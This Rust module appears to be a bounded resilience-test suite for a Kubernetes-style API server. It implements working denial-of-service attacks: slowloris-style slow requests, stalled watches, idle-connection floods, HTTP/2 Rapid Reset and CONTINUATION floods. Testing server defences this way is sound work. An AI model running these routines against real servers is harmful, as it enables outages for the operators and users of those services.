//! The attacks. Each is bounded in count and time, and keeps its connections until it is dropped.

use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use futures::future::BoxFuture;
use futures::stream::{FuturesUnordered, StreamExt};
use http::Request;
use http_body_util::Full;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout};

use super::frames::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM_AND_HEADERS, GET, HEADERS, PREFACE, RST_STREAM,
};
use crate::api_level::Endpoint;

/// The collection of the objects.
pub const CONFIGMAPS: &str = "/api/v1/namespaces/default/configmaps";
const BLOBS: &str = "/apis/example.org/v1/namespaces/default/blobs";

/// Number of large ConfigMaps, and their size.
pub const LARGE: usize = 30;
const LARGE_BYTES: usize = 900_000;

/// Duration of an attack after its start.
const TIME: Duration = Duration::from_secs(10);
/// Concurrent handshakes.
const AT_ONCE: usize = 32;
/// Time limit for opening connections.
const OPENING: Duration = Duration::from_secs(60);

/// The server, as an attacker sees it.
pub struct Target {
    pub endpoint: Endpoint,
}

/// Connections that an attack opened, kept until they are dropped.
pub struct Wave {
    pub count: usize,
    _kept: Vec<Box<dyn Send>>,
}

/// A ConfigMap close to the size limit.
pub fn large_configmap(name: &str) -> String {
    format!(r#"{{"metadata":{{"name":"{name}"}},"data":{{"x":"{}"}}}}"#, "x".repeat(LARGE_BYTES))
}

/// Opens up to `count` connections with these first bytes, within a time limit, and keeps them.
async fn open(target: &Target, count: usize, first: &str) -> Result<Wave> {
    let mut kept: Vec<Box<dyn Send>> = Vec::new();
    let one = || -> BoxFuture<'_, Result<Box<dyn Send>>> {
        Box::pin(async move {
            let mut stream = frames::connect(&target.endpoint, b"http/1.1").await?;
            stream.write_all(first.as_bytes()).await?;
            Ok(Box::new(stream) as Box<dyn Send>)
        })
    };
    let mut opening: FuturesUnordered<_> = (0..AT_ONCE.min(count)).map(|_| one()).collect();
    let mut begun = opening.len();
    let end = Instant::now() + OPENING;
    while Instant::now() < end
        && let Some(opened) = opening.next().await
    {
        // A refused or closed connection is the server's intended defence.
        kept.extend(opened.ok());
        if begun < count {
            begun += 1;
            opening.push(one());
        }
    }
    sleep(TIME).await;
    Ok(Wave { count: kept.len(), _kept: kept })
}

fn get(path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer alice\r\n\r\n")
}

/// 1,000 request heads that arrive a byte at a time.
pub async fn slow_heads(target: &Target) -> Result<Wave> {
    let mut streams = Vec::new();
    for _ in 0..1000 {
        let Ok(mut stream) = frames::connect(&target.endpoint, b"http/1.1").await else { continue };
        let _ = stream.write_all(b"GET / HTTP/1.1\r\nhost: a\r\nx: ").await;
        streams.push(stream);
    }
    let end = Instant::now() + TIME;
    while Instant::now() < end {
        for stream in &mut streams {
            let _ = stream.write_all(b"y").await;
        }
        sleep(Duration::from_secs(1)).await;
    }
    Ok(Wave { count: streams.len(), _kept: vec![Box::new(streams)] })
}

/// 205 POSTs of reviews of which one byte arrives.
pub async fn slow_bodies(target: &Target) -> Result<Wave> {
    let path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer alice\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{{"
    );
    open(target, 205, &head).await
}

/// 200 lists of large objects that are never read.
pub async fn stalled_lists(target: &Target) -> Result<Wave> {
    open(target, 200, &get(CONFIGMAPS)).await
}

/// 200 watches of large objects, from before their creation, that are never read.
pub async fn stalled_watches(target: &Target) -> Result<Wave> {
    open(target, 200, &get(&format!("{CONFIGMAPS}?watch=1&resourceVersion=1"))).await
}

/// 300 watches with the initial state of all large objects, never read.
pub async fn stalled_initial_states(target: &Target) -> Result<Wave> {
    open(target, 300, &get(&format!("{CONFIGMAPS}?watch=1"))).await
}

/// 1,000 HTTP/2 connections, each with a POST of 1 MB that fills the window and stops.
pub async fn unfinished_bodies(target: &Target) -> Result<Wave> {
    let head = frames::headers(&[
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "a"),
        (":path", CONFIGMAPS),
        ("authorization", "Bearer alice"),
        ("content-type", "application/json"),
        ("content-length", "1000000"),
    ]);
    let head = frames::frame(HEADERS, END_HEADERS, 1, &head);
    let data = frames::frame(DATA, 0, 1, &[b' '; 16_000]);
    let mut streams = Vec::new();
    for _ in 0..1000 {
        let Ok(mut stream) = frames::connect(&target.endpoint, b"h2").await else { continue };
        let _ = stream.write_all(PREFACE).await;
        let _ = stream.write_all(&head).await;
        // The server's settings contain the window.
        let _ = timeout(Duration::from_secs(1), stream.read(&mut [0; 1 << 10])).await;
        for _ in 0..8 {
            let _ = timeout(Duration::from_secs(1), stream.write_all(&data)).await;
        }
        streams.push(stream);
    }
    sleep(TIME).await;
    Ok(Wave { count: streams.len(), _kept: vec![Box::new(streams)] })
}

/// 10,000 connections that send nothing.
pub async fn idle_connections(target: &Target) -> Result<Wave> {
    open(target, 10_000, "").await
}

/// 24 connections that open 250 watches each: more than one user may have.
pub async fn watch_flood(target: &Target) -> Result<Wave> {
    let mut drivers = JoinSet::new();
    let mut watches = Vec::new();
    for _ in 0..24 {
        let Ok(mut sender) = frames::http2(&target.endpoint, &mut drivers).await else { continue };
        let uri = format!(
            "https://{}{CONFIGMAPS}?watch=1&fieldSelector=metadata.name%3Dhealthy",
            target.endpoint.address
        );
        let mut asked = FuturesUnordered::new();
        for _ in 0..250 {
            let request = Request::get(&uri).header("authorization", "Bearer alice");
            asked.push(sender.send_request(request.body(Full::new(Bytes::new()))?));
        }
        while let Some(answer) = asked.next().await {
            watches.extend(answer.ok().filter(|answer| answer.status().is_success()));
        }
    }
    sleep(TIME).await;
    Ok(Wave { count: watches.len(), _kept: vec![Box::new(watches), Box::new(drivers)] })
}

/// Writes the bytes of `next` repeatedly, on ten connections that are opened again when they are closed.
async fn flood(target: &Target, most: usize, begin: &[u8], next: impl Fn(usize) -> Vec<u8>) -> Result<Wave> {
    let end = Instant::now() + TIME;
    let one = || async {
        let mut written = 0;
        while Instant::now() < end && written < most {
            let Ok(mut stream) = frames::connect(&target.endpoint, b"h2").await else { continue };
            let mut is_open =
                stream.write_all(PREFACE).await.is_ok() && stream.write_all(begin).await.is_ok();
            let mut of_connection = 0;
            let mut heard = [0; 1 << 12];
            while is_open && Instant::now() < end && written < most {
                is_open = timeout(TIME, stream.write_all(&next(of_connection)))
                    .await
                    .is_ok_and(|done| done.is_ok());
                // Responses are read, so that the server can continue.
                while let Ok(Ok(1..)) = timeout(Duration::ZERO, stream.read(&mut heard)).await {}
                of_connection += 1;
                written += 1;
            }
        }
        written
    };
    let counts = futures::future::join_all((0..10).map(|_| one())).await;
    Ok(Wave { count: counts.into_iter().sum(), _kept: Vec::new() })
}

/// Streams that are opened and reset at once.
pub async fn rapid_reset(target: &Target) -> Result<Wave> {
    let pair = |i: usize| {
        let stream = u32::try_from(2 * i + 1).unwrap_or(1);
        let mut pair = frames::frame(HEADERS, END_STREAM_AND_HEADERS, stream, GET);
        pair.extend(frames::frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
        pair
    };
    flood(target, 20_000, b"", pair).await
}

/// Headers that continue in frame after frame and never end.
pub async fn continuation_flood(target: &Target) -> Result<Wave> {
    let begin = frames::frame(HEADERS, 1, 1, GET);
    // A header of 8 KiB that is not indexed: name `a`, and a value of `b`s.
    let mut header = b"\0\x01a\x7f\x81\x3f".to_vec();
    header.extend(std::iter::repeat_n(b'b', 127 + 8064 + 1));
    let more = frames::frame(CONTINUATION, 0, 1, &header[..header.len().min(16_384)]);
    flood(target, 8_000, &begin, |_| more.clone()).await
}

/// 16 clients that repeatedly patch objects to just below the size limit of a body.
pub async fn large_objects(target: &Target) -> Result<Wave> {
    let end = Instant::now() + TIME;
    let one = |i: usize| async move {
        let mut count = 0;
        let body = format!(r#"{{"data":"{}"}}"#, "x".repeat(2_900_000));
        let create =
            format!(r#"{{"apiVersion":"example.org/v1","kind":"Blob","metadata":{{"name":"b{i}"}}}}"#);
        let post = request("POST", BLOBS, "application/json", &create);
        let patch = request("PATCH", &format!("{BLOBS}/b{i}"), "application/merge-patch+json", &body);
        let Ok(mut stream) = frames::connect(&target.endpoint, b"http/1.1").await else { return 0 };
        let mut heard = vec![0; 1 << 20];
        let mut is_open =
            stream.write_all(post.as_bytes()).await.is_ok() && stream.read(&mut heard).await.is_ok();
        while is_open && Instant::now() < end {
            is_open = stream.write_all(patch.as_bytes()).await.is_ok();
            // The answer is as long as the object, and is discarded.
            while let Ok(Ok(1..)) = timeout(Duration::from_millis(200), stream.read(&mut heard)).await {}
            count += 1;
        }
        count
    };
    let counts = futures::future::join_all((0..16).map(one)).await;
    Ok(Wave { count: counts.into_iter().sum(), _kept: Vec::new() })
}

fn request(method: &str, path: &str, media: &str, body: &str) -> String {
    format!(
        "{method} {path} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer alice\r\ncontent-type: {media}\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    )
}
